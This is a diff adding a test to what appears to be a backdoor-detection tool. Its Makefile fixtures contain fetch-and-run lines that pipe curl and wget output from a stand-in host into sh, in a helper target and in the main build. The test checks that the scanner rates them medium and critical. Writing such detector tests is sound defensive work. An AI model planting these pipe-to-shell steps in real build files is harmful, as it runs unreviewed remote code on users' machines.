@@ -97,3 +97,16 @@ def test_tr_rotation_and_gzip_emulation():
     out = emulate([("tail", ["-c", "+5"]), ("tr", [back, r"\253-\377\000-\252"]), ("gzip", ["-dc"])],
                   b"HEAD" + rotated)
     assert out == payload
+
+
+def test_download_in_a_helper_make_target_is_medium_in_the_build_it_is_critical(tmp_path):
+    from nobackdoor.analyzers.source.standalone import analyse_directory
+
+    (tmp_path / "Makefile").write_text("all: prog\n\nprog: prog.c\n\tcc -o prog prog.c\n\n"
+                                       "lint-tools:\n\tcurl -fsSL https://tools.example/i.sh | sh\n")
+    (tmp_path / "prog.c").write_text("int main(void) { return 0; }\n")
+    got = analyse_directory(tmp_path).findings
+    assert [(f.rule, f.severity.value) for f in got] == [("source.build-fetch-exec", "medium")]
+    (tmp_path / "Makefile").write_text("all: prog\n\nprog: prog.c\n\twget -qO- https://tools.example/i.sh | sh\n")
+    got = analyse_directory(tmp_path).findings
+    assert [(f.rule, f.severity.value) for f in got] == [("source.build-fetch-exec", "critical")]
